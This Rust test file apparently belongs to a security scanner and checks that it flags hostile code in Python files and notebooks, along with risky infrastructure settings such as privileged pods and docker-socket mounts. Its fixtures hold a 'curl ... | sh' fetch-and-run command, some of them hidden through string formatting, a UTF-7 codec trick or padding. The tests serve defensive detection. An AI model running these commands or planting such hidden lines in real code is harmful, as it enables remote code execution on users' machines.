//! Code and infrastructure through the whole scan: recognised by name or content, judged, placed.

use bastide_types::Assessment;

use crate::{Format, Limits, Report, scan};

const HOSTILE: &str = "import os\nos.system('curl http://198.51.100.7/x | sh')\n";

fn judge(text: &str, name: &str) -> Report {
    scan(&text.as_bytes(), name, &Limits::default())
}

fn ids(report: &Report) -> Vec<&'static str> {
    report.findings.iter().map(|finding| finding.rule.id).collect()
}

#[test]
fn python_is_judged_with_line_and_offset() {
    let report = judge(HOSTILE, "train.py");
    assert_eq!((report.format, report.assessment()), (Format::Python, Assessment::Malicious));
    let finding = report.findings.first().unwrap();
    assert_eq!((finding.rule.id, finding.offset), ("code.hostile-command", Some(10)));
    assert!(finding.message.starts_with("line 2: "), "{}", finding.message);
    assert_eq!(judge("import os\nos.system('nvidia-smi')\n", "train.py").assessment(), Assessment::Clean);
}

#[test]
fn a_line_of_a_file_is_no_magic_of_a_notebook() {
    let hidden = "import os\nx = ('%s'\n%str(os.system('curl http://198.51.100.7/x | sh')))\n";
    assert_eq!(judge(hidden, "a.py").assessment(), Assessment::Malicious);
}

#[test]
fn cells_are_judged_and_named() {
    let source = serde_json::to_string(HOSTILE).unwrap();
    let notebook = format!(
        r##"{{"nbformat": 4, "cells": [{{"cell_type": "markdown", "source": "# x"}}, {{"cell_type": "code", "source": {source}, "outputs": []}}]}}"##
    );
    let report = judge(&notebook, "a.ipynb");
    assert_eq!((report.format, report.assessment()), (Format::Notebook, Assessment::Malicious));
    let told = |f: &&crate::Finding| f.rule.id == "code.hostile-command";
    assert!(report.findings.iter().find(told).unwrap().message.starts_with("cell 1, line 2: "), "{report:?}");
}

#[test]
fn infrastructure_is_told_by_what_tools_go_by() {
    let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n  - name: a\n    image: a@sha256:1\n    securityContext: {privileged: true}\n";
    for (name, text, format, rule) in [
        ("pod.yaml", pod, Format::Kubernetes, Some("infra.privileged")),
        (
            "docker-compose.yml",
            "services:\n  a:\n    image: a:1\n    volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n",
            Format::Compose,
            Some("infra.container-socket"),
        ),
        ("Dockerfile", "FROM python\nUSER app\n", Format::Dockerfile, Some("infra.unpinned-image")),
        (
            "main.tf",
            "resource \"aws_s3_bucket_acl\" \"a\" {\n  bucket = \"a\"\n  acl    = \"public-read\"\n}\n",
            Format::Terraform,
            Some("infra.public-bucket"),
        ),
        ("requirements.txt", "torch==2.6.0\nnumpy\n", Format::Requirements, Some("dependency.unpinned")),
        ("Cargo.lock", "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\n", Format::Lock, None),
        ("config.yaml", "model: a\nlayers: 3\n", Format::Yaml, None),
    ] {
        let report = judge(text, name);
        assert_eq!(report.format, format, "{name}");
        match rule {
            Some(rule) => assert!(ids(&report).contains(&rule), "{name}: {:?}", ids(&report)),
            None => assert_eq!(ids(&report), [""; 0], "{name}"),
        }
    }
}

#[test]
fn a_chart_is_no_reason_to_be_unfinished() {
    let chart =
        "apiVersion: v1\nkind: Service\nmetadata:\n  name: {{ .Release.Name }}\nspec:\n  type: ClusterIP\n";
    let report = judge(chart, "service.yaml");
    assert_eq!((ids(&report), report.assessment()), (vec!["infra.templated"], Assessment::Clean));
}

#[test]
fn packages_of_lock_files_are_facts() {
    let facts = judge("numpy==1.26.0\n# nothing\nscikit_learn==0.20.0\n", "requirements.txt").facts;
    let found: Vec<_> = facts
        .packages
        .iter()
        .map(|p| (p.package.name.as_str(), p.package.version.as_str(), p.package.line))
        .collect();
    assert_eq!(found, [("numpy", "1.26.0", 1), ("scikit-learn", "0.20.0", 3)]);
}

#[test]
fn a_source_that_is_too_long_is_read_as_far_as_that_goes() {
    let text = format!("{HOSTILE}{}", "x = 1\n".repeat(300_000));
    let report = judge(&text, "a.py");
    assert!(ids(&report).contains(&"code.too-large") && report.assessment() == Assessment::Malicious);
}

#[test]
fn a_module_is_read_in_the_codec_that_it_names() {
    let hidden = "# coding: utf-7\n# +AAo-import os+AAo-os.getcwd()\n";
    assert!(ids(&judge(hidden, "model.py")).contains(&"code.disguised-source"));
    let mut bytes = b"# coding: latin-1\n#".to_vec();
    bytes.extend([0xe9; 3000]);
    bytes.extend(b"\nimport os\nos.system('curl http://198.51.100.7/x | sh')\n");
    let report = scan(&bytes.as_slice(), "model.py", &Limits::default());
    assert_eq!((report.format, report.assessment()), (Format::Python, Assessment::Malicious));
}

#[test]
fn who_runs_a_file_decides_what_its_commands_mean() {
    let text = "import os\nos.system('echo harmless')\n";
    assert_eq!(judge(text, "train.py").assessment(), Assessment::Clean);
    assert_eq!(judge(text, "handler.py").assessment(), Assessment::Malicious);
}
